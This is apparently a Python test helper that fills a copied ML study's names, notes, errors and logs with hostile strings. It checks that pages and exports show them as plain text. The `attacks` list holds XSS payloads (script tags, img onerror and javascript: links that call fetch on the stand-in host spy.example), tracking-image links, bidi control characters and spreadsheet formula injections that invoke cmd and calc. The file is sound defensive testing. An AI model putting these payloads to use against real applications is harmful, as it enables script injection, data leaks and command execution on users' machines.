"""tests/hostile: texts that would do something wherever they were taken for more than texts.

`ATTACKS` is the one list of them: whatever shows or exports names, add it where it is used
(`tests/pages/test_hostile_fields.py`, `tests/browser/test_spy.py`).
"""

import json
import shutil
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

from optimizer.measure.histograms import BINS, HISTOGRAMS, WeightHistogram, beside
from optimizer.measure.metrics import METRICS
from optimizer.store.study import INDEX
from optimizer.workers import logs

SPY = "http://spy.example"
"""Where the attacks lead, unless a test has a server that listens."""
MARK = "spy"
"""In each of them."""
STRUCTURE = {
    "schema", "id", "created", "started", "ended", "made", "timed", "digest", "sha256", "key",
    "data_folder", "file", "saved_model", "audit", "inside", "profile", "predictions", "folder",
    "recipe", "status", "scaling", "target_scaling", "target", "headline", "task", "stopped_by",
    "role", "step", "by", "began",
    "quantization", "output_activation", "output_activations", "loss", "must_run",
    "tensor_types", "types", "io", "device", "input_dtype", "promised", "isolation", "code",
    "function", "architecture", "reconstruction",
    "made_as", "unpacked",
    # How boxes are read.
    "layout", "boxes", "unit", "scores", "background", "cells", "numbers", "anchors",
}  # fmt: skip
"""Keys of a study's files whose texts are looked up: anything else there is damage, not a name."""
LOOKED_UP = {
    "dtype": {"inputs", "outputs", "tensor"},
    "min_runtime_version": {"operators"},
}
"""Keys whose texts are looked up only inside these."""
COUNTED = {"versions", "weight_bytes", "activation_bytes"}
OPERATORS = ("contents", "operators")
"""Keys of what has names of others as keys itself."""


def attacks(spy: str = SPY) -> tuple[str, ...]:
    """Each way of being more than a text, leading to `spy`."""
    return (
        f"![spy]({spy}/picture.png)",
        f"<img src={spy}/image.png onerror=fetch('{spy}/script')>",
        f"[spy]({spy}/link)",
        f"<a href='{spy}/anchor'>spy</a>",
        f"<script>fetch('{spy}/script')</script>",
        f"{spy}/bare",
        f"www.{MARK}.example/bare",
        f"mail@{MARK}.example",
        f":red[spy] :material/home: :smile: `{MARK}` **{MARK}** ~~{MARK}~~ $x_{{{MARK}}}$",
        f"a\n\n# {MARK}\n\n- {MARK}\n\n    {MARK}\n\n[1]: {spy}/reference\n\n![spy][1]",
        f"&lt;img src={spy}/entity.png&gt;<br><b>{MARK}</b>",
        f"%{{customdata}} <sup>{MARK}</sup> <a href=\"javascript:fetch('{spy}/script')\">spy</a>",
        f"\u202e{MARK}\u2066 \x07",
        f'=HYPERLINK("{spy}/formula","{MARK}")',
        f"+{MARK}|'/C calc'!A0",
        f"-2+3+cmd|'{MARK}'!A0",
        f"@SUM(1)*cmd|'{MARK}'!A0",
        f"\t=1+1 {MARK}",
        f"\r=1+1 {MARK}",
        f" ＝1+1 {MARK}",
    )


def hostile_copy(study: Path, to: Path, spy: str = SPY) -> Path:
    """A study with an attack in every text that is a name, a note, an error or a log.

    Args:
        study: Has variants and results; stays as it is.
        to: Where the copy is to lie; its name becomes the study's id.
        spy: Where the attacks lead.
    """
    shutil.copytree(study, to)
    following = cycle(attacks(spy))
    index = json.loads((to / INDEX).read_text())
    _poison(index, (), following)
    index["id"] = to.name
    notes = list(attacks(spy))
    index["model"]["summary"]["notes"] = notes
    index["model"]["summary"]["untrainable"] = None
    dataset = index["dataset"]
    dataset["notes"] = notes
    dataset["class_names"] = [next(following) for _ in range(dataset["classes"])]
    for mine, models in zip(dataset["inputs"], index["model"]["summary"]["inputs"], strict=True):
        mine["name"] = models["name"]
    for variant in index["variants"]:
        _poison_beside(to, variant, following)
    failed = [
        {**index["jobs"][0], "id": f"failed{place}", "status": "failed", "error": text}
        for place, text in enumerate(notes)
    ]
    index["jobs"] += failed
    for job in failed:
        (to / "jobs" / job["id"]).mkdir()
        (to / "jobs" / job["id"] / logs.LOG).write_text("\n".join(notes))
    (to / INDEX).write_text(json.dumps(index))
    return to


def _poison_beside(folder: Path, variant: dict[str, Any], following: Iterator[str]) -> None:
    for kind in ("audit", "inside", "profile"):
        if variant.get(kind):
            content = json.loads((folder / variant[kind]).read_text())
            _poison(content, (), following)
            (folder / variant[kind]).write_text(json.dumps(content))
    flat = (1,) * BINS
    made = tuple(
        WeightHistogram(name, layer, name, name, (BINS,), 1.0, flat, 0, flat, 0, 3.0)
        for name, layer in ((next(following), None), (next(following), next(following)))
    )
    HISTOGRAMS.write(beside(folder / variant["file"]), made)


def _poison(value: Any, way: tuple[str, ...], following: Iterator[str]) -> None:
    """Puts attacks in the place of texts, below `way` of keys."""
    for key, inner in list(value.items() if isinstance(value, dict) else enumerate(value)):
        here = (*way, str(key)) if isinstance(value, dict) else way
        if isinstance(inner, dict | list):
            _poison(inner, here, following)
        elif isinstance(inner, str) and inner not in METRICS and not _is_structure(here):
            value[key] = next(following)
    if isinstance(value, dict) and way[-1:] and (way[-1] in COUNTED or way[-2:] == OPERATORS):
        for name in list(value):
            value[next(following)] = value.pop(name)


def _is_structure(way: tuple[str, ...]) -> bool:
    if "versions" in way:
        return False
    return bool(STRUCTURE & set(way)) or bool(LOOKED_UP.get(way[-1], set()) & set(way[:-1]))
